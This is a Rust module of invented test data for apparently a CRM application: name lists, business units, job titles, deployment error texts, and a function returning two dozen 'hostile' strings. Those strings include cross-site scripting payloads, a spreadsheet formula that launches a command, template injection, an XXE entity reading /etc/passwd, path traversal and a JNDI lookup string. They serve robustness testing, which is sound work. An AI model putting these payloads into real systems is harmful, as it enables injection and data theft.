//! Invented names, ordinary and hostile.

/// Given names.
pub(super) const FIRST: [&str; 40] = [
    "Adele", "Bruno", "Carla", "Diego", "Emily", "Farid", "Grady", "Henrietta", "Isaiah", "Johanna", "Karl",
    "Lidia", "Megan", "Nestor", "Olga", "Patti", "Quentin", "Rosa", "Sven", "Tamara", "Umberto", "Vera", "Wei",
    "Xenia", "Yusuf", "Zoë", "Alex", "Beate", "Cem", "Dagmar", "Enrico", "Fiona", "Giulia", "Hugo", "Irvin",
    "Jun", "Kofi", "Lena", "Miriam", "Noor",
];

/// Family names.
pub(super) const LAST: [&str; 40] = [
    "Vance", "Wilber", "Sandoval", "Okafor", "Braun", "Haddad", "Archie", "Mueller", "Langer", "Lorenz",
    "Dubois", "Holloway", "Bowen", "Wilke", "Nowak", "Fernandez", "O'Neill", "Silva", "Lindqvist", "Petrov",
    "Rossi", "Kuznetsova", "Zhang", "Papadakis", "Demir", "Novak", "Jansen", "Fischer", "Yilmaz", "Weiss",
    "Moretti", "Campbell", "Ferrari", "Garnier", "Sayers", "Tanaka", "Mensah", "Sørensen", "Cohen", "Rahman",
];

/// Business units below the root.
pub(super) const UNITS: [&str; 16] = [
    "North", "South", "West", "East", "Sales", "Service", "Marketing", "Finance", "Benelux", "Nordics", "Iberia",
    "Alps", "Retail", "Wholesale", "Field Operations", "Partners",
];

/// Job titles.
pub(super) const TITLES: [&str; 8] = [
    "Account Manager",
    "Sales Representative",
    "Service Engineer",
    "Team Lead",
    "Assistant",
    "Director",
    "Analyst",
    "Dispatcher",
];

/// Error texts of a failed installation of the app.
pub(super) const DEPLOYMENT_ERRORS: [&str; 4] = [
    "Crm : IncomingEmailRejected",
    "Crm : IncomingEmailS2SApprovalNeeded",
    "Exchange : ErrorInvalidLicense",
    "Unknown : UnknownException, try again in 15 minutes",
];

/// Text that breaks careless readers and writers: markup, spreadsheet formulas, bidirectional and control
/// characters, template syntax, separators, long text.
pub(super) fn hostile(number: usize) -> String {
    const TEXTS: [&str; 24] = [
        "<script>alert(1)</script>",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\u{202e}gnihtemos\u{202c} \u{200f}else",
        "line one\nline two\r\n\tline three",
        "Conan \"The\" O'Brien; `x`",
        "{{ 7*7 }}{% for x in y %}",
        "a\u{2028}b\u{2029}c",
        "\u{1}\u{7}\u{1b}[31mred\u{1b}[0m\u{7f}",
        "👩‍👩‍👧 🏴󠁧󠁢󠁳󠁣󠁴󠁿 e\u{301}",
        "]]></style></textarea></title>",
        "\" onmouseover=\"alert(1)",
        "javascript:alert(1)",
        "<img src=x onerror=alert(1)>",
        "\tstarts with a tab",
        "\rstarts with a return",
        "--><!-- <!ENTITY x SYSTEM 'file:///etc/passwd'>",
        "C:\\temp\\..\\..\\x,y;z|\"q\"",
        "%00%0a%s%n${jndi:ldap://x}",
        "   ",
        "\u{feff}bom\u{200b}zero width",
        "<!--#exec cmd=\"x\"--> &lt;b&gt; &amp;",
    ];
    match number % (TEXTS.len() + 1) {
        24 => "x".repeat(400),
        index => TEXTS[index].to_owned(),
    }
}
